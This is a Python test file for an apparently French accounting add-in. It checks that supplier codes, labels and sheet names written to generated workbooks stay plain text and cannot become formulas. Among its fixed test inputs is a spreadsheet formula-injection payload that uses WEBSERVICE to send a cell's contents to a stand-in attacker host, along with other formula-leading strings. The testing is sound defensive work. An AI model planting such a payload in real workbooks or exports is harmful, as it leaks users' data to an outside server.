"""Formula-safe writing (issue 12, finding 11): text from an input that reaches a sheet stays
text, including text near or inside the formulas Reglo builds.

Formulas Reglo writes (``grep Formula( addin core``): the transfer preview's selection totals
(SUMIFS) and total cell, the « Contrôle » links (HYPERLINK, every workflow through
``paint_alerts`` / ``write_control_sheet``, and « payments from-fec »'s link to « Lignes du
FEC »), and the list validations of the payments template. Every formula of a written workbook
is parsed with openpyxl's tokenizer: only Reglo's own functions, and no text operand that came
from an input; each hostile input is found back as a plain text cell.
"""
from __future__ import annotations

import os
import re
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.formula.tokenizer import Token, Tokenizer

from reglo.addin.backends.base import hyperlink_formula
from reglo.addin.backends.sheets import FileWorkbook
from reglo.core.alerts import Alert, AlertCode, Severity

EXAMPLES = int(os.environ.get("REGLO_FULL") and 300 or 25)
FINDING = 'F"&WEBSERVICE("http://evil.example/?"&B8)&"'
FIXED = [FINDING, "=1+1", "+33 6 12", "-2+3", "@SUM(A1)", '"quoted"', "=HYPERLINK(\"http://x\",\"y\")", "'=apostrophe", "F*", ">0", "=F001", "~?"]
hostile = st.one_of(
    st.sampled_from(FIXED),
    st.builds(lambda p, s: p + s, st.sampled_from(["=", "+", "-", "@", '"', "'", ""]),
              st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40)),
)


def formulas(path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    out = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    for ws in wb.worksheets:
        for dv in ws.data_validations.dataValidation:
            out += [f"={dv.formula1}"] if dv.type == "list" and dv.formula1 else []
    return out


def texts(path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s" and isinstance(c.value, str)}


LINK_LABEL = re.compile(r"[A-Z]{1,3}\d+|ligne \d+|\(feuille\)|\d+ ligne\(s\) : voir « Lignes du FEC »")


def assert_only_reglo_formulas(path, allowed_text=("Oui",), functions=("SUMIFS(", "HYPERLINK(")):
    for f in formulas(path):
        tokens = Tokenizer(f).items
        for tok in tokens:
            if tok.type == Token.FUNC and tok.subtype == Token.OPEN:
                assert tok.value.upper() in functions, f
            if tok.type == Token.OPERAND and tok.subtype == Token.TEXT:
                text = tok.value[1:-1].replace('""', '"')
                assert text in allowed_text or text.startswith("#'") or LINK_LABEL.fullmatch(text), f


# --- the transfer preview: SUMIFS per beneficiary --------------------------------------------

def _line(n: int, who: str, name: str, label: str):
    from reglo.core.transfers.models import LineKind, PreviewLine

    amount = Decimal("100.00") + n
    return PreviewLine(line_no=n, key=f"AC|{n}", beneficiary=who, beneficiary_name=name, ledger_account="401000", journal_code="AC",
                       entry_number=str(n), entry_date=date(2025, 3, 1), document_ref=label, label=label, due_date=date(2025, 3, 31),
                       kind=LineKind.INVOICE, original_amount=amount, open_amount=amount, amount=amount)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(who=hostile, name=hostile, label=hostile)
def test_transfer_preview_formulas_keep_input_text_as_text(tmp_path_factory, who, name, label):
    from reglo.addin.shell.transfers import PREVIEW_SHEET, write_preview

    path = tmp_path_factory.mktemp("prev") / "v.xlsx"
    book = FileWorkbook(path, create=True)
    lines = [_line(1, who, name, label), _line(2, who, name, label), _line(3, "F002", "Autre", "FA-2")]
    write_preview(book, lines, {"imported_at": "2025-03-01T09:00", "period": "03/2025", "roots": label})
    book.save()
    assert_only_reglo_formulas(path)
    found = texts(path)
    for value in (who, name, label):
        assert value.strip() == "" or value in found or value.strip() in found
    ws = openpyxl.load_workbook(path)[PREVIEW_SHEET]
    sums = [c.value for row in ws.iter_rows() for c in row if c.data_type == "f" and "SUMIFS" in c.value]
    assert len(sums) == 3  # one per beneficiary + the grand total: none built from the input


# --- « Contrôle » links: every workflow's control sheet ---------------------------------------

@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(message=hostile, sheet=st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters=":\\/?*[]"), min_size=1, max_size=25).filter(lambda s: s.strip() and s[0] != "'" and s[-1] != "'" and s.lower() != "history"))
def test_control_sheet_links_keep_sheet_names_and_messages_as_text(tmp_path_factory, message, sheet):
    from reglo.addin.backends.paint import paint_alerts

    path = tmp_path_factory.mktemp("ctl") / "c.xlsx"
    book = FileWorkbook(path, create=True)
    book.write_sheet(sheet, ["Montant", "Libellé"], [[1, message], [2, message]])
    alert = Alert(sheet=sheet, row=2, column="Libellé", severity=Severity.WARNING, code=AlertCode("FORMULA_INJECTION"), message=message)
    paint_alerts(book, [alert], title="Contrôle")
    book.save()
    for f in formulas(path):
        tokens = [t for t in Tokenizer(f).items if t.type != Token.WSPACE]
        assert [t.value for t in tokens if t.type == Token.FUNC] == ["HYPERLINK(", ")"], f
        assert [t.subtype for t in tokens if t.type == Token.OPERAND] == [Token.TEXT, Token.TEXT], f
        target = tokens[1].value[1:-1].replace('""', '"')
        assert target == "#'" + sheet.replace("'", "''") + "'!B2"
    assert message in texts(path)


@given(sheet=hostile, label=hostile)
@settings(max_examples=EXAMPLES * 4, deadline=None)
def test_hyperlink_formula_quotes_every_text(sheet, label):
    tokens = [t for t in Tokenizer(hyperlink_formula(sheet, 3, 2, label)).items if t.type != Token.WSPACE]
    assert [t.value for t in tokens if t.type == Token.FUNC] == ["HYPERLINK(", ")"]
    operands = [t for t in tokens if t.type == Token.OPERAND]
    assert [t.subtype for t in operands] == [Token.TEXT, Token.TEXT]
    assert operands[1].value[1:-1].replace('""', '"') == label


# --- the payments template's list of banks ----------------------------------------------------

@given(banks=st.lists(hostile, min_size=1, max_size=4))
@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_payments_template_bank_list_stays_a_list_of_text(tmp_path_factory, banks):
    import io

    from reglo.workbook_templates.payments import build_template

    path = tmp_path_factory.mktemp("tpl") / "t.xlsx"
    path.write_bytes(build_template(["BQ1", *banks]))
    for f in formulas(path):
        tokens = [t for t in Tokenizer(f).items if t.type != Token.WSPACE]
        assert len(tokens) == 1 and tokens[0].subtype in (Token.TEXT, Token.NUMBER), f
        assert "BQ1" in f or "Virement" in f or tokens[0].subtype == Token.NUMBER


# --- end to end: the finding's CompAuxNum through « transfers import » ------------------------

@pytest.mark.parametrize("code", [FINDING, "=HYPERLINK(\"http://evil\")", "F*", "@F1"])
def test_hostile_supplier_code_from_the_fec_stays_text_in_the_preview(tmp_path, code):
    from reglo.addin.entrypoints.cli import main
    from tests.addin.transfer_helpers import make_dossier
    from tests.core.transfer_fixtures import invoice

    dossier = make_dossier(tmp_path / "dossier", invoice("14", code, "FA-EVIL", "50.00", "2023-03-20", name=code))
    wb = tmp_path / "v.xlsx"
    assert main(["transfers", "import", str(wb), "--dossier", str(dossier), "--period", "2023-03", "--now", "2023-03-31T10:00:00"]) in (0, 1)
    assert_only_reglo_formulas(wb)
    assert code in texts(wb)


# --- the preview's technical column and time stamp (finding 4) ---------------------------------

def test_preview_hides_its_key_column_and_shows_the_import_time_in_french(tmp_path):
    from reglo.addin.backends.fastbook import FastFileWorkbook
    from reglo.addin.shell.transfers import PREVIEW_SHEET, write_preview

    path = tmp_path / "v.xlsx"
    book = FileWorkbook(path, create=True)
    write_preview(book, [_line(1, "F001", "Nom", "FA-1")], {"imported_at": "2026-01-02T09:00:00", "period": "01/2026", "roots": "401"})
    book.save()
    ws = openpyxl.load_workbook(path)[PREVIEW_SHEET]
    key = next(c for c in ws[7] if c.value == "Clé")
    assert ws.column_dimensions[key.column_letter].hidden
    stamp = ws["B3"]
    assert stamp.value == datetime(2026, 1, 2, 9, 0) and stamp.number_format == "dd/mm/yyyy hh:mm"
    # the fast backend writes the same hidden column
    book = FileWorkbook(tmp_path / "base.xlsx", create=True)
    book.write_sheet("Autre", ["x"], [[1]])
    book.save()
    fast = FastFileWorkbook(tmp_path / "base.xlsx")
    write_preview(fast, [_line(1, "F001", "Nom", "FA-1")], {"imported_at": "2026-01-02T09:00:00"})
    fast.save()
    ws = openpyxl.load_workbook(tmp_path / "base.xlsx")[PREVIEW_SHEET]
    key = next(c for row in ws.iter_rows(max_row=12) for c in row if c.value == "Clé")
    assert ws.column_dimensions[key.column_letter].hidden
